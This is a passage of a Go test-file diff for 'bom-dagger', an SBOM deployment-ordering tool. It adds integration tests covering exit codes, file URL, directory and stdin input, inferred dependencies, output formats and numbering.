@@ -2,16 +2,86 @@ package main
 
 import (
 	"bytes"
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"reflect"
+	"regexp"
+	"runtime"
+	"sort"
 	"strings"
+	"syscall"
 	"testing"
+	"time"
+	"unicode/utf8"
 )
 
-// Helper to run the tool with arguments and capture output
+// binary is bom-dagger built once by TestMain with Version set to
+// testVersion, for the tests that need a real process: environment
+// defaults, exit codes, signals and ldflags
+var binary string
+
+const testVersion = "v0.0.0-test"
+
+func TestMain(m *testing.M) {
+	dir, err := os.MkdirTemp("", "bom-dagger-test")
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		os.Exit(1)
+	}
+	binary = filepath.Join(dir, "bom-dagger")
+	if runtime.GOOS == "windows" {
+		binary += ".exe"
+	}
+	build := exec.Command("go", "build", "-ldflags", "-X main.Version="+testVersion, "-o", binary, ".")
+	if out, err := build.CombinedOutput(); err != nil {
+		fmt.Fprintf(os.Stderr, "go build failed: %v\n%s", err, out)
+		os.RemoveAll(dir)
+		os.Exit(1)
+	}
+	code := m.Run()
+	os.RemoveAll(dir)
+	os.Exit(code)
+}
+
+// exitStatus is the error of an in-process run that exited non-zero
+type exitStatus int
+
+func (s exitStatus) Error() string {
+	return fmt.Sprintf("exit status %d", int(s))
+}
+
+// runBomDagger runs bom-dagger in-process with args and empty standard input
+// and returns what it wrote to stdout and stderr, with an exitStatus error
+// for a non-zero exit
 func runBomDagger(t *testing.T, args ...string) (string, string, error) {
-	cmd := exec.Command("go", append([]string{"run", "main.go"}, args...)...)
+	return runBomDaggerStdin(t, strings.NewReader(""), args...)
+}
+
+// runBomDaggerStdin is runBomDagger reading standard input from stdin
+func runBomDaggerStdin(t *testing.T, stdin io.Reader, args ...string) (string, string, error) {
+	t.Helper()
+	var stdout, stderr bytes.Buffer
+	if status := run(args, stdin, &stdout, &stderr); status != 0 {
+		return stdout.String(), stderr.String(), exitStatus(status)
+	}
+	return stdout.String(), stderr.String(), nil
+}
+
+// runBomDaggerEnv runs the built binary with extra KEY=value environment
+// variables. A non-zero exit is an *exec.ExitError.
+func runBomDaggerEnv(t *testing.T, env []string, args ...string) (string, string, error) {
+	t.Helper()
+	cmd := exec.Command(binary, args...)
+	cmd.Env = append(os.Environ(), env...)
 
 	var stdout, stderr bytes.Buffer
 	cmd.Stdout = &stdout
@@ -21,6 +91,190 @@ func runBomDagger(t *testing.T, args ...string) (string, string, error) {
 	return stdout.String(), stderr.String(), err
 }
 
+func TestBinaryVersion(t *testing.T) {
+	stdout, _, err := runBomDaggerEnv(t, nil, "--version")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	if !strings.Contains(stdout, "bom-dagger version "+testVersion+"\n") {
+		t.Errorf("Expected the version set with -ldflags, got: %s", stdout)
+	}
+}
+
+func TestIntegrationExitCodes(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "simple-1.6.json")
+	missingDir := filepath.Join(t.TempDir(), "missing", "plan.json")
+
+	tests := []struct {
+		name string
+		args []string
+		want int
+	}{
+		{"success", []string{"-i", sbomPath}, 0},
+		{"help", []string{"--help"}, 0},
+		{"no input", nil, 1},
+		{"unknown option", []string{"--no-such-option"}, 1},
+		{"missing file", []string{"-i", "no-such-file.json"}, 1},
+		{"unwritable output file", []string{"-i", sbomPath, "-f", missingDir}, 1},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			// The binary and an in-process run agree
+			_, _, err := runBomDaggerEnv(t, nil, tt.args...)
+			var exitErr *exec.ExitError
+			if status := 0; err != nil {
+				if !errors.As(err, &exitErr) {
+					t.Fatalf("Unexpected error: %v", err)
+				}
+				if status = exitErr.ExitCode(); status != tt.want {
+					t.Errorf("Expected the binary to exit with %d, got %d", tt.want, status)
+				}
+			} else if tt.want != 0 {
+				t.Errorf("Expected the binary to exit with %d, got 0", tt.want)
+			}
+
+			if status := run(tt.args, strings.NewReader(""), io.Discard, io.Discard); status != tt.want {
+				t.Errorf("Expected run to return %d, got %d", tt.want, status)
+			}
+		})
+	}
+}
+
+func TestIntegrationFileURLInput(t *testing.T) {
+	path, err := filepath.Abs(filepath.Join("..", "..", "testdata", "sboms", "diamond-1.6.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	// file:///C:/... on Windows, file:///home/... elsewhere
+	url := "file://" + filepath.ToSlash(path)
+	if !strings.HasPrefix(filepath.ToSlash(path), "/") {
+		url = "file:///" + filepath.ToSlash(path)
+	}
+	want, _, err := runBomDagger(t, "-i", path, "-o", "groups")
+	if err != nil {
+		t.Fatal(err)
+	}
+	stdout, stderr, err := runBomDagger(t, "-i", url, "-o", "groups")
+	if err != nil {
+		t.Fatalf("Command failed: %v\nStderr: %s", err, stderr)
+	}
+	if stdout != want {
+		t.Errorf("Expected the file URL to read the same SBOM\nGot:\n%s\nWant:\n%s", stdout, want)
+	}
+
+	// Windows reads file://host/... from the UNC share \\host\...
+	if runtime.GOOS != "windows" {
+		if _, stderr, err := runBomDagger(t, "-i", "file://build-host/sbom.json"); err == nil || !strings.Contains(stderr, "host build-host is not local") {
+			t.Errorf("Expected a remote file URL to be rejected, got %v: %s", err, stderr)
+		}
+	}
+}
+
+func TestIntegrationInputDirectory(t *testing.T) {
+	dir := t.TempDir()
+	diamond := mustReadFile(t, filepath.Join("..", "..", "testdata", "sboms", "diamond-1.6.json"))
+	files := map[string][]byte{
+		"a-diamond.json":         diamond,
+		"b-services.json":        mustReadFile(t, filepath.Join("..", "..", "testdata", "sboms", "services-1.6.json")),
+		"c-broken.json":          []byte(`{"bomFormat": "CycloneDX", "components": [`),
+		"notes.txt":              []byte("not an SBOM"),
+		"nested/d-shell.json":    mustReadFile(t, filepath.Join("..", "..", "testdata", "sboms", "simple-1.6.json")),
+		"nested/deeper/e.ignore": []byte("{}"),
+	}
+	for name, data := range files {
+		path := filepath.Join(dir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, data, 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	stdout, stderr, err := runBomDagger(t, "-i", dir, "-o", "json")
+	if err != nil {
+		t.Fatalf("Expected the broken file to be skipped: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stderr, "[W024_SKIPPED_INPUT] skipping "+filepath.Join(dir, "c-broken.json")+": failed to decode JSON") {
+		t.Errorf("Expected the broken file to be named, got: %s", stderr)
+	}
+	var result struct {
+		Provenance struct {
+			Inputs []struct {
+				Path   string `json:"path"`
+				SHA256 string `json:"sha256"`
+			} `json:"inputs"`
+		} `json:"provenance"`
+	}
+	if err := json.Unmarshal([]byte(stdout), &result); err != nil {
+		t.Fatalf("Invalid JSON: %v\nOutput: %s", err, stdout)
+	}
+	var paths []string
+	for _, input := range result.Provenance.Inputs {
+		paths = append(paths, filepath.Base(input.Path))
+	}
+	if want := "a-diamond.json b-services.json"; strings.Join(paths, " ") != want {
+		t.Errorf("Expected the parsed files in name order, %s, got %v", want, paths)
+	}
+	if sum := sha256.Sum256(diamond); len(result.Provenance.Inputs) == 0 || result.Provenance.Inputs[0].SHA256 != hex.EncodeToString(sum[:]) {
+		t.Errorf("Expected the SHA-256 of the diamond SBOM, got %+v", result.Provenance.Inputs)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", dir, "--recursive", "-o", "json")
+	if err != nil {
+		t.Fatalf("Command failed: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, filepath.Join("nested", "d-shell.json")) {
+		t.Errorf("Expected --recursive to read the subdirectory, got:\n%s", stdout)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", dir, "--strict")
+	if err == nil || !strings.Contains(stderr, "parsing SBOM: "+filepath.Join(dir, "c-broken.json")+": failed to decode JSON") {
+		t.Errorf("Expected --strict to fail on the broken file, got %v: %s", err, stderr)
+	}
+
+	if _, stderr, err := runBomDagger(t, "-i", filepath.Join(dir, "nested", "deeper")); err == nil || !strings.Contains(stderr, "no SBOM files (.json) in") {
+		t.Errorf("Expected a directory without SBOMs to be rejected, got %v: %s", err, stderr)
+	}
+}
+
+func TestIntegrationStdin(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "diamond-1.6.json")
+	sbomJSON := mustReadFile(t, sbomPath)
+
+	stdout, stderr, err := runBomDaggerStdin(t, bytes.NewReader(sbomJSON), "-i", "-", "-o", "json")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	var result struct {
+		Provenance struct {
+			Inputs []struct {
+				Path string `json:"path"`
+			} `json:"inputs"`
+		} `json:"provenance"`
+		Steps []json.RawMessage `json:"steps"`
+	}
+	if err := json.Unmarshal([]byte(stdout), &result); err != nil {
+		t.Fatalf("Invalid JSON: %v", err)
+	}
+	if len(result.Steps) != 3 || len(result.Provenance.Inputs) != 1 || result.Provenance.Inputs[0].Path != "stdin" {
+		t.Errorf("Expected 3 steps from stdin, got %+v", result)
+	}
+
+	// Standard input is not cached, since it cannot be hashed beforehand
+	cacheDir := t.TempDir()
+	if _, stderr, err := runBomDaggerStdin(t, bytes.NewReader(sbomJSON), "-i", "-", "--cache-dir", cacheDir); err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if entries, _ := os.ReadDir(cacheDir); len(entries) != 0 {
+		t.Errorf("Expected no cache entries, got %d", len(entries))
+	}
+
+	if _, stderr, err := runBomDaggerStdin(t, bytes.NewReader(sbomJSON), "-i", "-", "-i", "-"); err == nil || !strings.Contains(stderr, "can only be read once") {
+		t.Errorf("Expected an error reading stdin twice, got %v\nStderr: %s", err, stderr)
+	}
+}
+
 func TestIntegrationSimpleSBOM(t *testing.T) {
 	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "simple-1.6.json")
 
@@ -166,6 +420,122 @@ func TestIntegrationNestedSBOM(t *testing.T) {
 	}
 }
 
+func TestIntegrationInferFromNesting(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "nested-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-s", "--infer-from-nesting")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+
+	// main-app -> embedded-lib and module-a -> submodule-a1/a2 are not declared
+	if !strings.Contains(stdout, "Inferred Dependencies: 3") {
+		t.Errorf("Expected 3 inferred dependencies in stats\nGot: %s", stdout)
+	}
+}
+
+func TestIntegrationInferFrom(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "assemblies-1.6.json")
+
+	tests := []struct {
+		source string
+		want   string
+		notes  []string
+	}{
+		{"nesting", "Inferred Dependencies: 2", []string{"[W023_INFERRED_EDGES] inferred 2 edges from component nesting"}},
+		{"compositions", "Inferred Dependencies: 2", []string{"[W023_INFERRED_EDGES] inferred 2 edges from composition assemblies"}},
+		{"both", "Inferred Dependencies: 3", []string{"inferred 2 edges from component nesting", "inferred 1 edge from composition assemblies"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.source, func(t *testing.T) {
+			stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-s", "--infer-from", tt.source)
+			if err != nil {
+				t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+			}
+			if !strings.Contains(stdout, tt.want) {
+				t.Errorf("Expected %q in stats\nGot: %s", tt.want, stdout)
+			}
+			for _, note := range tt.notes {
+				if !strings.Contains(stderr, note) {
+					t.Errorf("Expected %q in stderr, got: %s", note, stderr)
+				}
+			}
+		})
+	}
+
+	if _, stderr, err := runBomDagger(t, "-i", sbomPath, "--infer-from", "nesting", "--infer-from-nesting"); err == nil {
+		t.Errorf("Expected --infer-from-nesting to conflict with --infer-from nesting, got: %s", stderr)
+	}
+	if _, stderr, err := runBomDagger(t, "-i", sbomPath, "--infer-from", "assemblies"); err == nil || !strings.Contains(stderr, "invalid --infer-from") {
+		t.Errorf("Expected an invalid source error, got %v: %s", err, stderr)
+	}
+}
+
+func TestIntegrationSBOMTools(t *testing.T) {
+	tools := "SBOM Tools: Anchore, Inc. syft 1.4.1, org.cyclonedx cyclonedx-maven-plugin 2.8.0, Acme Corp sbom-enrichment 3"
+
+	// The 1.5 object form and the legacy array list the same tools
+	for _, fixture := range []string{"tools-object-1.5.json", "tools-array-1.4.json"} {
+		sbomPath := filepath.Join("..", "..", "testdata", "sboms", fixture)
+		stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-s")
+		if err != nil {
+			t.Fatalf("Unexpected error for %s: %v\nStderr: %s", fixture, err, stderr)
+		}
+		if !strings.Contains(stdout, tools) {
+			t.Errorf("Expected %q for %s\nGot: %s", tools, fixture, stdout)
+		}
+	}
+
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "tools-object-1.5.json")
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-s")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, "SBOM Lifecycles: build, staging-verification") {
+		t.Errorf("Expected the lifecycles in stats\nGot: %s", stdout)
+	}
+}
+
+func TestIntegrationSpecVersionStats(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "diamond-1.4.json")
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-s")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, "SBOM Format: CycloneDX 1.4\n") || strings.Contains(stdout, "Spec Version Mismatches") {
+		t.Errorf("Expected the spec version without mismatches\nGot: %s", stdout)
+	}
+
+	// A 1.4 document using a 1.5 tools object and a 1.6 component field
+	path := filepath.Join(t.TempDir(), "mislabeled-1.4.json")
+	sbomJSON := `{"bomFormat": "CycloneDX", "specVersion": "1.4", "version": 1,
+		"metadata": {"tools": {"components": [{"name": "syft"}]}},
+		"components": [{"bom-ref": "a", "name": "A", "type": "library", "omniborId": []}, {"bom-ref": "b", "name": "B", "type": "library"}],
+		"dependencies": [{"ref": "a", "dependsOn": ["b"]}]}`
+	if err := os.WriteFile(path, []byte(sbomJSON), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	stdout, stderr, err = runBomDagger(t, "-i", path, "-s")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	for _, want := range []string{
+		"Spec Version Mismatches: 2",
+		"  [W012_SPEC_VERSION_FEATURE] metadata.tools as an object requires CycloneDX 1.5 but specVersion is 1.4",
+		"  [W012_SPEC_VERSION_FEATURE] components[].omniborId requires CycloneDX 1.6 but specVersion is 1.4",
+	} {
+		if !strings.Contains(stdout, want) {
+			t.Errorf("Expected %q in stats\nGot: %s", want, stdout)
+		}
+	}
+	if !strings.Contains(stderr, "Warning: [W012_SPEC_VERSION_FEATURE]") {
+		t.Errorf("Expected the mismatches as warnings\nGot: %s", stderr)
+	}
+	if _, _, err := runBomDagger(t, "-i", path, "--strict"); err == nil {
+		t.Error("Expected --strict to reject the mismatches")
+	}
+}
+
 func TestIntegrationCycleSBOM(t *testing.T) {
 	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "cycle-1.6.json")
 
@@ -204,6 +574,69 @@ func TestIntegrationNoDependencies(t *testing.T) {
 			t.Errorf("Component '%s' not found in output", comp)
 		}
 	}
+
+	if !strings.Contains(stderr, "no dependency information found; all 3 components treated as independent") {
+		t.Errorf("Expected the missing dependencies notice, got: %s", stderr)
+	}
+}
+
+func TestIntegrationRequireDependencies(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "no-deps-1.6.json")
+
+	// The same SBOM without any dependencies field
+	var doc map[string]any
+	if err := json.Unmarshal(mustReadFile(t, sbomPath), &doc); err != nil {
+		t.Fatal(err)
+	}
+	delete(doc, "dependencies")
+	data, err := json.Marshal(doc)
+	if err != nil {
+		t.Fatal(err)
+	}
+	absentPath := filepath.Join(t.TempDir(), "absent-deps.json")
+	if err := os.WriteFile(absentPath, data, 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	for _, path := range []string{sbomPath, absentPath} {
+		t.Run(filepath.Base(path), func(t *testing.T) {
+			_, stderr, err := runBomDagger(t, "-i", path, "--require-dependencies")
+			if err == nil {
+				t.Fatal("Expected --require-dependencies to fail")
+			}
+			if !strings.Contains(stderr, "no dependency information found in the SBOM (--require-dependencies)") {
+				t.Errorf("Expected the --require-dependencies error, got: %s", stderr)
+			}
+
+			stdout, stderr, err := runBomDagger(t, "-i", path, "-o", "json", "-s")
+			if err != nil {
+				t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+			}
+			if !strings.Contains(stderr, "no dependency information found; all 3 components treated as independent") {
+				t.Errorf("Expected the notice, got: %s", stderr)
+			}
+			var p struct {
+				Stats struct {
+					NoDependencies bool `json:"noDependencies"`
+				} `json:"stats"`
+			}
+			if err := json.Unmarshal([]byte(stdout), &p); err != nil {
+				t.Fatalf("Invalid JSON: %v\n%s", err, stdout)
+			}
+			if !p.Stats.NoDependencies {
+				t.Errorf("Expected noDependencies in the stats, got:\n%s", stdout)
+			}
+		})
+	}
+
+	// SBOMs with dependencies pass and carry no flag
+	stdout, stderr, err := runBomDagger(t, "-i", filepath.Join("..", "..", "testdata", "sboms", "simple-1.6.json"), "--require-dependencies", "-o", "json", "-s")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if strings.Contains(stdout, "noDependencies") || strings.Contains(stderr, "no dependency information") {
+		t.Errorf("Expected no notice for an SBOM with dependencies\nStdout: %s\nStderr: %s", stdout, stderr)
+	}
 }
 
 func TestIntegrationMicroservices(t *testing.T) {
@@ -295,92 +728,3574 @@ func TestIntegrationMicroservices(t *testing.T) {
 	}
 }
 
-func TestIntegrationInvalidInput(t *testing.T) {
-	tests := []struct {
-		name    string
-		args    []string
-		wantErr bool
-		errMsg  string
-	}{
-		{
-			name:    "missing input file",
-			args:    []string{},
-			wantErr: true,
-		},
-		{
-			name:    "non-existent file",
-			args:    []string{"-i", "/non/existent/file.json"},
-			wantErr: true,
-			errMsg:  "Error parsing SBOM",
-		},
-		{
-			name:    "help flag",
-			args:    []string{"-h"},
-			wantErr: false,
-		},
-	}
-
-	for _, tt := range tests {
-		t.Run(tt.name, func(t *testing.T) {
-			_, stderr, err := runBomDagger(t, tt.args...)
+func TestIntegrationRuntimeOnly(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "build-deps-1.6.json")
 
-			if tt.wantErr {
-				if err == nil {
-					t.Error("Expected error but got none")
-				}
-				if tt.errMsg != "" && !strings.Contains(stderr, tt.errMsg) {
-					t.Errorf("Expected error message containing '%s', got: %s", tt.errMsg, stderr)
-				}
-			}
-		})
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-g")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, "Group 4") {
+		t.Errorf("Expected 4 groups including build-time dependencies\nGot: %s", stdout)
 	}
-}
 
-func TestIntegrationExampleSBOM(t *testing.T) {
-	// Test with the original example SBOM (updated to 1.6)
-	sbomPath := filepath.Join("..", "..", "example-sbom.json")
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "-g", "--runtime-only")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if strings.Contains(stdout, "Group 4") {
+		t.Errorf("Expected build-time edges to be dropped\nGot: %s", stdout)
+	}
+	if !strings.Contains(stderr, "dropped edge app -> build-tool") {
+		t.Errorf("Expected warning for dropped build edge, got: %s", stderr)
+	}
+	if strings.Contains(stderr, "test-harness") {
+		t.Errorf("Expected the excluded test-harness to be left out before filtering, got: %s", stderr)
+	}
 
-	// Check if file exists
-	if _, err := os.Stat(sbomPath); os.IsNotExist(err) {
-		t.Skip("example-sbom.json not found")
+	// Excluded components only reach the filter when they are kept
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "-g", "--runtime-only", "--include-excluded")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stderr, "dropped edge api -> test-harness") {
+		t.Errorf("Expected warning for dropped excluded edge, got: %s", stderr)
 	}
 
-	stdout, stderr, err := runBomDagger(t, "-i", sbomPath)
+	// Edges through left-out components are bridged, then filtered, so the
+	// chains still order app after auth and worker after db
+	chainPath := filepath.Join("..", "..", "testdata", "sboms", "excluded-chain-1.6.json")
+	want, _, err := runBomDagger(t, "-i", chainPath)
 	if err != nil {
-		t.Fatalf("Failed to process example SBOM: %v\nStderr: %s", err, stderr)
+		t.Fatal(err)
+	}
+	stdout, stderr, err = runBomDagger(t, "-i", chainPath, "--runtime-only")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if stdout != want {
+		t.Errorf("Expected --runtime-only to keep the excluded chains' order, got:\n%s\nwant:\n%s", stdout, want)
 	}
+	if strings.Contains(stderr, "dropped edge") {
+		t.Errorf("Expected no edges to be filtered, got: %s", stderr)
+	}
+}
 
-	// Verify the output contains expected components
-	expectedComponents := []string{
-		"React Frontend",
-		"API Gateway",
-		"PostgreSQL Database",
-		"Redis Cache",
-		"RabbitMQ",
-		"Nginx Load Balancer",
+func TestIntegrationEmptySBOM(t *testing.T) {
+	sbomPath := filepath.Join(t.TempDir(), "empty.json")
+	if err := os.WriteFile(sbomPath, []byte(`{"bomFormat": "CycloneDX", "specVersion": "1.6", "version": 1}`), 0o644); err != nil {
+		t.Fatal(err)
 	}
 
-	for _, comp := range expectedComponents {
-		if !strings.Contains(stdout, comp) {
-			t.Errorf("Component '%s' not found in output", comp)
+	// Nothing to deploy is not an error, whatever the output
+	for _, args := range [][]string{nil, {"-g"}, {"-s"}, {"-o", "json"}, {"-o", "dot"}, {"-o", "mermaid"}} {
+		stdout, stderr, err := runBomDagger(t, append([]string{"-i", sbomPath}, args...)...)
+		if err != nil {
+			t.Errorf("%v: unexpected error: %v\nStderr: %s", args, err, stderr)
+		}
+		if args == nil && stdout != "=== Deployment Order ===\nDeploy components in this sequence:\n\n" {
+			t.Errorf("Expected an empty order, got:\n%s", stdout)
 		}
 	}
 }
 
-func BenchmarkProcessSimpleSBOM(b *testing.B) {
-	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "simple-1.6.json")
+func TestIntegrationGantt(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "diamond-durations-1.6.json")
 
-	for i := 0; i < b.N; i++ {
-		cmd := exec.Command("go", "run", "main.go", "-i", sbomPath)
-		_ = cmd.Run()
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-o", "gantt")
+	if err != nil {
+		t.Fatalf("Command failed: %v\nStderr: %s", err, stderr)
+	}
+	if stdout != readGolden(t, "gantt-diamond.mmd") {
+		t.Errorf("Expected the golden gantt chart, got:\n%s", stdout)
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "-o", "gantt", "--gantt-max-tasks", "3")
+	if err != nil {
+		t.Fatalf("Command failed: %v", err)
+	}
+	if !strings.Contains(stderr, "gantt chart shows the first 3 of 5 tasks") {
+		t.Errorf("Expected a warning about the capped chart, got: %s", stderr)
 	}
 }
 
-func BenchmarkProcessMicroservicesSBOM(b *testing.B) {
-	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "microservices-1.6.json")
+func TestIntegrationOutputFile(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "simple-1.6.json")
+	dir := t.TempDir()
 
-	for i := 0; i < b.N; i++ {
-		cmd := exec.Command("go", "run", "main.go", "-i", sbomPath)
-		_ = cmd.Run()
+	tests := []struct {
+		file   string
+		args   []string
+		prefix string
+	}{
+		{"graph.dot", nil, "digraph dependencies {"},
+		{"plan.json", nil, "{\n  \"schemaVersion\": 1"},
+		{"plan.md", nil, "# Deployment Plan"},
+		{"deps.mmd", nil, "flowchart"},
+		{"plan.txt", []string{"-o", "groups"}, "=== Deployment Groups ==="},
+		{"override.json", []string{"--output", "dot"}, "digraph dependencies {"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.file, func(t *testing.T) {
+			path := filepath.Join(dir, tt.file)
+			args := append([]string{"-i", sbomPath, "-f", path, "--timestamp", "2024-01-15T10:00:00Z"}, tt.args...)
+			stdout, stderr, err := runBomDagger(t, args...)
+			if err != nil {
+				t.Fatalf("Command failed: %v\nStderr: %s", err, stderr)
+			}
+			if stdout != "" {
+				t.Errorf("Expected nothing on stdout, got:\n%s", stdout)
+			}
+			if got := string(mustReadFile(t, path)); !strings.HasPrefix(got, tt.prefix) {
+				t.Errorf("Expected %s to start with %q, got:\n%s", tt.file, tt.prefix, got)
+			}
+		})
+	}
+
+	entries, err := os.ReadDir(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(entries) != len(tests) {
+		t.Errorf("Expected only the output files, found %d entries", len(entries))
+	}
+
+	_, stderr, err := runBomDagger(t, "-i", sbomPath, "-f", filepath.Join(dir, "plan.yaml"))
+	if err == nil {
+		t.Fatal("Expected an unknown extension to fail")
+	}
+	if !strings.Contains(stderr, "known: .dot, .json, .md, .mmd") {
+		t.Errorf("Expected the known extensions in the error, got: %s", stderr)
+	}
+
+	stdout, _, err := runBomDagger(t, "-i", sbomPath, "-f", "-", "-o", "dot")
+	if err != nil {
+		t.Fatalf("Command failed: %v", err)
+	}
+	if !strings.HasPrefix(stdout, "digraph dependencies {") {
+		t.Errorf("Expected -f - to write to stdout, got:\n%s", stdout)
+	}
+}
+
+func TestIntegrationNumbering(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "diamond-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "--numbering", "sequence")
+	if err != nil {
+		t.Fatalf("Command failed: %v\nStderr: %s", err, stderr)
+	}
+	want := "  1. Database (ref: db, group 1)\n  2. API A (ref: api-a, group 2)\n  3. API B (ref: api-b, group 2)\n  4. Application (ref: app, group 3)\n"
+	if !strings.Contains(stdout, want) {
+		t.Errorf("Expected %q in the order, got:\n%s", want, stdout)
+	}
+
+	// JSON plans carry both numbers whatever --numbering says
+	stdout, _, err = runBomDagger(t, "-i", sbomPath, "-o", "json", "--numbering", "group")
+	if err != nil {
+		t.Fatalf("Command failed: %v", err)
+	}
+	var result struct {
+		Steps []struct {
+			Components []struct {
+				BOMRef   string `json:"ref"`
+				Sequence int    `json:"sequence"`
+				Group    int    `json:"group"`
+			} `json:"components"`
+		} `json:"steps"`
+	}
+	if err := json.Unmarshal([]byte(stdout), &result); err != nil {
+		t.Fatalf("Invalid JSON: %v", err)
+	}
+	var got []string
+	for _, step := range result.Steps {
+		for _, component := range step.Components {
+			got = append(got, fmt.Sprintf("%d:%s:%d", component.Sequence, component.BOMRef, component.Group))
+		}
+	}
+	if want := "1:db:1 2:api-a:2 3:api-b:2 4:app:3"; strings.Join(got, " ") != want {
+		t.Errorf("Expected %q, got %q", want, strings.Join(got, " "))
+	}
+
+	if _, stderr, err := runBomDagger(t, "-i", sbomPath, "--numbering", "level"); err == nil || !strings.Contains(stderr, "invalid --numbering") {
+		t.Errorf("Expected an error for an unknown numbering, got %v\nStderr: %s", err, stderr)
+	}
+}
+
+func TestIntegrationShowBlockers(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "diamond-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "--show-blockers")
+	if err != nil {
+		t.Fatalf("Command failed: %v\nStderr: %s", err, stderr)
+	}
+	for _, want := range []string{
+		"  - Database (ref: db)\n\n",
+		"  - API A (ref: api-a)\n      blocked by: Database (step 1)\n",
+		"  - API B (ref: api-b)\n      blocked by: Database (step 1)\n",
+		"  - Application (ref: app)\n      blocked by: API A (step 2), API B (step 2)\n",
+	} {
+		if !strings.Contains(stdout, want) {
+			t.Errorf("Expected %q in the order, got:\n%s", want, stdout)
+		}
+	}
+
+	stdout, _, err = runBomDagger(t, "-i", sbomPath, "-o", "json")
+	if err != nil {
+		t.Fatalf("Command failed: %v", err)
+	}
+	var result struct {
+		Steps []struct {
+			Components []struct {
+				BOMRef    string   `json:"ref"`
+				BlockedBy []string `json:"blockedBy"`
+			} `json:"components"`
+		} `json:"steps"`
+	}
+	if err := json.Unmarshal([]byte(stdout), &result); err != nil {
+		t.Fatalf("Invalid JSON: %v", err)
+	}
+	blockers := make(map[string]string)
+	for _, step := range result.Steps {
+		for _, component := range step.Components {
+			blockers[component.BOMRef] = strings.Join(component.BlockedBy, ",")
+		}
+	}
+	want := map[string]string{"db": "", "api-a": "db", "api-b": "db", "app": "api-a,api-b"}
+	for ref, wantBlockers := range want {
+		if blockers[ref] != wantBlockers {
+			t.Errorf("Expected %s to be blocked by %q in JSON, got %q", ref, wantBlockers, blockers[ref])
+		}
+	}
+}
+
+func TestIntegrationDescribe(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "simple-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "--describe")
+	if err != nil {
+		t.Fatalf("Command failed: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, "  - Component A (ref: comp-a)\n      A simple component\n") {
+		t.Errorf("Expected the description under its entry, got:\n%s", stdout)
+	}
+
